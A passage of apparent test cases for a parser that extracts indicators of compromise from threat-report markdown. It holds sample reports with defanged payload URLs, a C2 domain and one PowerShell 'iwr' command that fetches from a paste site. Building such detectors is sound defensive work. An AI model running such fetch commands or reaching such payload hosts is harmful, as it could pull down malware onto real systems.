    markdown:
      'The malware loads its tools. The names of the archives were disguised to look legitimate:\n\n- hxxps://github[.]com/tern-js/mirror/raw/main/pack.zip\n- hxxps://plover-themes[.]net/pack.zip',
    want: { 'https://github.com/tern-js/mirror/raw/main/pack.zip': 'indicator+', 'https://plover-themes.net/pack.zip': 'indicator+' },
  },
  {
    name: 'an address written as one number is the host of a URL',
    markdown: 'The malware loads hxxp://1614733393/app/plover[.]msi, not hxxp://16147333934/a and not hxxp://2130706433/b.',
    want: { 'http://1614733393/app/plover.msi': 'indicator+', 'http://16147333934/a': 'junk', 'http://2130706433/b': 'junk' },
  },
  {
    name: 'the rest behind a placeholder for a name is no host',
    markdown:
      '## IOCs\n\n| Type | Indicator |\n| --- | --- |\n| Pattern | `<co>tern[.]com`, `my<company>grebe[.]com` |\n| Domain | `<td>plover-c2[.]net</td>` |',
    want: { 'tern.com': undefined, 'grebe.com': undefined, 'plover-c2.net': 'indicator+' },
  },
  {
    name: 'hashes of legitimate programs are context by their heading or by a remark in their row',
    markdown: `## IOCs\n\n| Item | Remark |\n| --- | --- |\n| tern.exe ${HASH} | Legitimate signed binary (do not block globally) |\n\n### Hashes of Heron (the legitimate software used to distribute the malware)\n\n${MD5}`,
    want: { [HASH]: 'context', [MD5]: 'context' },
  },
  {
    name: 'what a function gets in code and what a transaction is called are no files',
    markdown: `The backdoor decrypts its strings. Transaction ${HASH} paid for it.\n\n\`\`\`\nconst a = open(box, "${MD5}");\n\`\`\``,
    want: { [HASH]: 'context', [MD5]: 'context' },
  },
  {
    name: 'a file on a shared service is for detection in a list of indicators, and only shown in code; the service itself is known',
    markdown:
      'The malware runs `iwr https://pastebin.com/raw/Tern12`. Pictures are at res.cloudinary[.]com.\n\n## IOCs\n\n- https://pastebin.com/raw/Plover12',
    want: {
      'https://pastebin.com/raw/Tern12': 'indicator',
      'https://pastebin.com/raw/Plover12': 'indicator+',
      'res.cloudinary.com': 'context',
    },
  },
];
